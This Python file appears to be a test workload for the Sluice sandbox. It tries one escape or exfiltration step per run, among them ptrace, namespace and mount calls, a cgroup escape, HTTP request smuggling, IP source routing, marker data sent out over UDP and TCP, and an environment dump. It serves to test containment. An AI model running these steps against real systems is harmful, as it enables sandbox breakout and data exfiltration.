"""A hostile workload: runs inside a Sluice sandbox, tries one attack, prints one JSON line.

`{"ok": true}` means the attack's step succeeded (the test then checks whether anything got
out); `{"ok": false, "errno": N}` means the kernel or Sluice refused it. Every payload carries
the marker given on the command line, so the test's sniffer can look for it on the wire.
"""
import ctypes
import errno as E
import json
import os
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)


def report(**fields):
    print(json.dumps(fields), flush=True)


def attempt(fn):
    try:
        detail = fn()
        return {"ok": True, "detail": detail if isinstance(detail, (str, int, list)) else None}
    except OSError as e:
        return {"ok": False, "errno": e.errno, "error": type(e).__name__}


def syscall_result(rc):
    if rc == 0:
        return {"ok": True}
    return {"ok": False, "errno": ctypes.get_errno()}


def read_file(path):
    with open(path, "rb") as f:
        return f.read(64).hex()


def write_file(path, data=b"pwned"):
    with open(path, "wb") as f:
        f.write(data)
    return "written"


def http_exchange(host, port, request, family=socket.AF_INET, timeout=5):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((host, port))
    s.sendall(request)
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    s.close()
    return data.decode(errors="replace")


def udp_send(family, addr, payload, opts=()):
    s = socket.socket(family, socket.SOCK_DGRAM)
    for level, name, value in opts:
        s.setsockopt(level, name, value)
    s.sendto(payload, addr)
    return "sent"


def main():
    step, marker, args = sys.argv[1], sys.argv[2].encode(), sys.argv[3:]
    payload = b"EXFIL " + marker
    if step == "read":
        report(**attempt(lambda: read_file(args[0])))
    elif step == "write":
        report(**attempt(lambda: write_file(args[0], payload)))
    elif step == "list-dir":
        report(**attempt(lambda: sorted(os.listdir(args[0]))))
    elif step == "processes":
        report(ok=True, detail=sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
               uid=os.getuid())
    elif step == "signal":
        report(**attempt(lambda: os.kill(int(args[0]), 0)))
    elif step == "ptrace":
        PTRACE_ATTACH = 16
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        rc = libc.ptrace(PTRACE_ATTACH, int(args[0]), None, None)
        report(**syscall_result(0 if rc == 0 else -1))
    elif step == "unix-connect":
        def connect():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(args[0])
            s.sendall(payload)
            return "connected"
        report(**attempt(connect))
    elif step == "fd":
        report(**attempt(lambda: os.fstat(int(args[0])).st_mode))
    elif step == "unshare":
        report(**syscall_result(libc.unshare(int(args[0], 0))))
    elif step == "setns":
        def enter():
            fd = os.open(args[0], os.O_RDONLY)
            if libc.setns(fd, 0) != 0:
                raise OSError(ctypes.get_errno(), "setns")
        report(**attempt(enter))
    elif step == "mount":
        libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
        rc = libc.mount(b"tmpfs", args[0].encode(), b"tmpfs", 0, None)
        report(**syscall_result(rc))
    elif step == "umount":
        rc = libc.umount2(args[0].encode(), 2)
        report(**syscall_result(rc))
    elif step == "cgroup-escape":
        base = [l.split()[1] for l in open("/proc/self/mounts") if l.split()[2] == "cgroup2"][0]
        report(**attempt(lambda: write_file(os.path.join(base, "cgroup.procs"), str(os.getpid()).encode())))
    elif step == "socket":
        family, kind, proto = (int(a, 0) for a in args[:3])
        report(**attempt(lambda: socket.socket(family, kind, proto).fileno()))
    elif step == "io-uring":
        rc = libc.syscall(425, 8, ctypes.create_string_buffer(120))  # io_uring_setup
        report(**syscall_result(0 if rc >= 0 else -1))
    elif step == "bpf":
        rc = libc.syscall(321, 0, ctypes.create_string_buffer(64), 64)  # bpf(MAP_CREATE)
        report(**syscall_result(0 if rc >= 0 else -1))
    elif step == "udp":
        report(**attempt(lambda: udp_send(socket.AF_INET, (args[0], int(args[1])), payload)))
    elif step == "tcp":
        family = socket.AF_INET6 if ":" in args[0] else socket.AF_INET
        req = b"GET /" + marker + b" HTTP/1.1\r\nHost: " + args[0].encode() + b"\r\n\r\n"
        report(**attempt(lambda: http_exchange(args[0], int(args[1]), req, family)))
    elif step == "tfo":
        def fastopen():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(5)
            s.sendto(payload, 0x20000000, (args[0], int(args[1])))  # MSG_FASTOPEN
            return s.recv(100).decode(errors="replace")
        report(**attempt(fastopen))
    elif step == "http":
        # A plain HTTP request to a chosen address with a chosen Host and header.
        host, port, vhost, header = args[0], int(args[1]), args[2], args[3]
        req = ("GET /" + marker.decode() + " HTTP/1.1\r\nHost: " + vhost +
               "\r\n" + header + "\r\nConnection: close\r\n\r\n").encode()
        report(**attempt(lambda: http_exchange(host, port, req)))
    elif step == "smuggle":
        host, port = args[0], int(args[1])
        req = (b"POST / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nContent-Length: 4\r\n"
               b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /" + marker + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        report(**attempt(lambda: http_exchange(host, port, req)))
    elif step == "bind":
        family = socket.AF_INET6 if ":" in args[0] else socket.AF_INET
        def bind_listen():
            s = socket.socket(family, socket.SOCK_STREAM)
            s.bind((args[0], int(args[1])))
            s.listen(1)
            return s.getsockname()[1]
        report(**attempt(bind_listen))
    elif step == "listen-unbound":
        def listen():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.listen(1)
            port = s.getsockname()[1]
            s.settimeout(3)
            try:
                conn, _ = s.accept()
                return "accepted"
            except socket.timeout:
                return "no-one"
        report(**attempt(listen))
    elif step == "ip-options":
        # IPv4 loose source route through a chosen hop.
        hop = socket.inet_aton(args[0])
        opt = bytes([0x83, 7, 4]) + hop + b"\x00"
        report(**attempt(lambda: udp_send(socket.AF_INET, ("203.0.113.53", 53), payload,
                                          [(socket.IPPROTO_IP, socket.IP_OPTIONS, opt)])))
    elif step == "rthdr":
        # IPv6 routing header type 0/4 steering a DNS datagram to a chosen address.
        seg = socket.inet_pton(socket.AF_INET6, args[0])
        rthdr = bytes([17, 2, 4, 0, 0, 0, 0, 0]) + seg
        report(**attempt(lambda: udp_send(socket.AF_INET6, ("2001:db8:1::53", 53), payload,
                                          [(socket.IPPROTO_IPV6, 57, rthdr)])))  # IPV6_RTHDR
    elif step == "rthdr-cmsg":
        seg = socket.inet_pton(socket.AF_INET6, args[0])
        rthdr = bytes([17, 2, 4, 0, 0, 0, 0, 0]) + seg
        def send():
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            s.sendmsg([payload], [(socket.IPPROTO_IPV6, 57, rthdr)], 0, ("2001:db8:1::53", 53))
            return "sent"
        report(**attempt(send))
    elif step == "multicast":
        group = socket.inet_aton(args[0])
        mreq = struct.pack("4s4s", group, socket.inet_aton("0.0.0.0"))
        def join():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
            return "joined"
        report(**attempt(join))
    elif step == "multicast6":
        group = socket.inet_pton(socket.AF_INET6, args[0])
        mreq = group + struct.pack("@I", 0)
        def join():
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
            return "joined"
        report(**attempt(join))
    elif step == "dns":
        # A raw DNS query to a chosen resolver; reports the response code and answers.
        name, qtype, server = args[0], int(args[1]), args[2]
        qid = 0x5151
        q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
        for label in name.split("."):
            q += bytes([len(label)]) + label.encode()
        q += b"\x00" + struct.pack(">HH", qtype, 1)
        def ask():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.sendto(q, (server, 53))
            data, _ = s.recvfrom(4096)
            return {"rcode": data[3] & 0x0F, "answers": struct.unpack(">H", data[6:8])[0]}
        try:
            report(ok=True, **ask())
        except OSError as e:
            report(ok=False, errno=e.errno, error=type(e).__name__)
    elif step == "dns-tcp":
        name, server = args[0], args[1]
        q = struct.pack(">HHHHHH", 0x5152, 0x0100, 1, 0, 0, 0)
        for label in name.split("."):
            q += bytes([len(label)]) + label.encode()
        q += b"\x00" + struct.pack(">HH", 1, 1)
        def ask():
            s = socket.create_connection((server, 53), timeout=5)
            s.sendall(struct.pack(">H", len(q)) + q)
            data = s.recv(4096)
            if not data:
                raise OSError(E.ECONNRESET, "closed without an answer")
            return data.hex()
        report(**attempt(ask))
    elif step == "pktinfo":
        # A datagram pinned to a real interface with IP_PKTINFO ancillary data.
        ifindex = socket.if_nametoindex(args[0])
        info = struct.pack("@i4s4s", ifindex, socket.inet_aton("0.0.0.0"), socket.inet_aton("0.0.0.0"))
        def send():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendmsg([payload], [(socket.IPPROTO_IP, 8, info)], 0, (args[1], 53))  # IP_PKTINFO
            return "sent"
        report(**attempt(send))
    elif step == "unicast-if":
        ifindex = socket.if_nametoindex(args[0])
        report(**attempt(lambda: udp_send(socket.AF_INET, (args[1], 53), payload,
                                          [(socket.IPPROTO_IP, 50, struct.pack("!I", ifindex))])))
    elif step == "bindtodevice":
        def bind():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, args[0].encode())
            s.sendto(payload, (args[1], 53))
            return "sent"
        report(**attempt(bind))
    elif step == "environ":
        report(ok=True, detail=sorted(f"{k}={v}" for k, v in os.environ.items()))
    else:
        report(ok=False, error="unknown step " + step)


main()
